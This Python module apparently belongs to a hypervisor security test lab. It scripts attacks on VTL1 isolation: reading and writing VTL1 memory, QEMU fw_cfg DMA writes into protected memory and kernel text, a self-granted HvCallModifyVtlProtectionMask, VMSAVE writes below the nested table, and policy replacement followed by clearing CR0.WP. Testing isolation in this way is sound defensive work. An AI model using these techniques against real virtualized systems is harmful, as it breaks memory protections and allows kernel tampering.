"""VTL1's own memory and state: by the processor, by a hypercall's output, by a device, by AMD-V's own instructions."""

from __future__ import annotations

import struct

from vtlab.client.driver import Driver
from vtlab.client.machine import Machine
from vtlab.client.symbols import Symbols
from vtlab.services import Service
from vtlab.x86.registers import Cr0
from vtlab_attacks.evidence import Attack, Attempts, Evidence, Run, observe
from vtlab_attacks.hypercalls import MODIFY_VTL_PROTECTION_MASK, PARTITION_SELF, REP_ONE, hypercall, hypercall_output
from vtlab_attacks.state import PAGE, direct, memory, register, show_bytes, show_rights

SECRET_SIZE = 32

FW_CFG_DMA = 0x514
FW_CFG_READ_SIGNATURE = 0 << 16 | 8 | 2  # key 0 ("QEMU"), SELECT, READ
FW_CFG_ERROR = 1

LITEBOX_852 = "litebox issue 852 (ranges that overlap VTL1's memory)"
BYPASS_DMA = "Heki thread (Christopherson 2023): a guest can make a host device write protected memory"
NEEDS_VTL1 = "VTL1 is not enabled, so there is nothing to relax"


def read_secret(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    mailbox = symbols["driver_mailbox"]
    driver.write_bytes(mailbox, bytes(SECRET_SIZE))

    def steps(attempts: Attempts) -> None:
        attempts.step(driver.copy, mailbox, symbols["vtl1_memory"], SECRET_SIZE)

    return observe(
        "attacker's copy of VTL1's memory",
        lambda: memory(machine, symbols.physical("driver_mailbox"), SECRET_SIZE),
        steps,
        symbols,
        lambda _, after: any(after or b""),
        show_bytes,
    )


def write_secret(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    target = symbols.physical("vtl1_memory")

    def steps(attempts: Attempts) -> None:
        attempts.step(driver.write_bytes, direct(target), b"forged!!")

    return observe("VTL1's memory", lambda: memory(machine, target, SECRET_SIZE), steps, symbols, show=show_bytes)


def hypercall_into_secret(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    return hypercall_output("vtl1_memory", "VTL1's memory", machine, driver, symbols)


def fw_cfg_writes(attempts: Attempts, machine: Machine, driver: Driver, symbols: Symbols, target: int) -> None:
    """The guest has fw_cfg, a device of the host, write its signature to a GPA."""
    request = symbols.physical("driver_mailbox")
    machine.write_memory(request, struct.pack(">IIQ", FW_CFG_READ_SIGNATURE, 4, target))
    for half, port in ((request >> 32, FW_CFG_DMA), (request & 0xFFFFFFFF, FW_CFG_DMA + 4)):
        attempts.step(driver.call, symbols["outl"], port, int.from_bytes(half.to_bytes(4, "big"), "little"))
    answer = struct.unpack(">I", machine.read_memory(request, 4))[0]
    attempts.note("fw_cfg DMA: error bit" if answer & FW_CFG_ERROR else "")


def dma_into(target_symbol: str, what: str) -> Run:
    """The guest programs fw_cfg, a device of the host, to write there."""

    def run(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
        target = symbols.physical(target_symbol)

        def steps(attempts: Attempts) -> None:
            fw_cfg_writes(attempts, machine, driver, symbols, target)

        return observe(what, lambda: memory(machine, target), steps, symbols, show=show_bytes)

    return run


def relax(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """HvCallModifyVtlProtectionMask, from the level that is restricted; with and without a target VTL."""
    address = symbols["text_start"]
    given = symbols.physical("driver_mailbox")

    def steps(attempts: Attempts) -> None:
        for vtl in (0x00, 0x10, 0x11):
            header = struct.pack("<QIB3x", PARTITION_SELF, 0xF, vtl)
            machine.write_memory(given, header + struct.pack("<Q", symbols.physical(address) // PAGE))
            control = MODIFY_VTL_PROTECTION_MASK | REP_ONE
            attempts.step(lambda control=control: attempts.note(hypercall(driver, control, given, 0)))

    return observe(
        "VTL0's right to write kernel text",
        lambda: machine.translate(address).access.write,
        steps,
        symbols,
        show=lambda right: "yes" if right else "no",
    )


def vmsave(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """AMD-V's VMSAVE writes physical memory below the nested table: 512 bytes from offset 0x440 of the page in RAX."""
    text = symbols.physical("text_start")
    targets = [
        text,
        symbols.physical("kernel_pml4"),
        symbols.physical("vtl1_memory"),
        *(1 << n for n in range(26, 40, 2)),
    ]

    def state() -> tuple[bytes | None, str]:
        return memory(machine, text + 0x440, 64), show_rights(machine.translate(symbols["text_start"]).access)

    def steps(attempts: Attempts) -> None:
        for target in targets:
            attempts.step(driver.call, symbols["gadget_vmsave"], target)

    return observe(
        "text at VMSAVE's offset, and its nested rights",
        state,
        steps,
        symbols,
        show=lambda seen: f"{show_bytes(seen[0] and seen[0][:4])}…, {seen[1]}",
    )


def service_into_text(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """VTL1 may write everywhere; CHALLENGE has it write where VTL0 says."""
    target = symbols.physical("static_key_audit")

    def steps(attempts: Attempts) -> None:
        attempts.step(driver.vtl, Service.CHALLENGE, target)

    return observe("code of static_key_audit", lambda: memory(machine, target, 8), steps, symbols, show=show_bytes)


LAX_POLICY = b"version: 1\nname: lax\n"


def replace_policy(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """Hands VTL1 a policy that guards nothing, then clears what the first one pinned."""
    text = symbols.physical("driver_mailbox")
    machine.write_memory(text, LAX_POLICY)

    def steps(attempts: Attempts) -> None:
        if attempts.step(driver.vtl, Service.TAKE_POLICY, text, len(LAX_POLICY)):
            attempts.step(driver.call, symbols["gadget_mov_cr0"], register(machine, "cr0") & ~Cr0.WP)

    return observe(
        "CR0.WP", lambda: int(bool(register(machine, "cr0") & Cr0.WP)), steps, symbols, lambda _, after: not after
    )


ATTACKS = [
    Attack("vtl1-read", "Reads VTL1's memory", LITEBOX_852, read_secret),
    Attack("vtl1-write", "Writes VTL1's memory", LITEBOX_852, write_secret),
    Attack(
        "vtl1-hypercall-output",
        "Names VTL1's memory as the output of a hypercall",
        "TLFS, VTL memory rights",
        hypercall_into_secret,
    ),
    Attack("vtl1-dma", "Has fw_cfg write VTL1's memory by DMA", BYPASS_DMA, dma_into("vtl1_memory", "VTL1's memory")),
    Attack(
        "text-dma",
        "Has fw_cfg write kernel text by DMA",
        BYPASS_DMA,
        dma_into("static_key_audit", "code of static_key_audit"),
    ),
    Attack(
        "hypercall-relax",
        "Gives itself write access to text by HvCallModifyVtlProtectionMask",
        "TLFS, HvCallModifyVtlProtectionMask",
        relax,
        NEEDS_VTL1,
    ),
    Attack(
        "vmsave-nested",
        "Writes below the nested table by VMSAVE",
        "AMD APM volume 2, 15.5; seen in the emulator that this core is built on",
        vmsave,
        "the core hides AMD-V from every guest, guarded or not",
    ),
    Attack(
        "policy-replace",
        "Hands VTL1 a laxer policy after the lock",
        "Heki v3 thread (Christopherson 2024): a VMCALL cannot say who may relax what",
        replace_policy,
        "VTL1 is not enabled, so there is no policy to replace",
    ),
    Attack(
        "service-into-text",
        "Has VTL1 write its answer into kernel text",
        "litebox issue 1036 (confused deputy)",
        service_into_text,
        "VTL1 is not enabled, so there is no deputy",
    ),
]
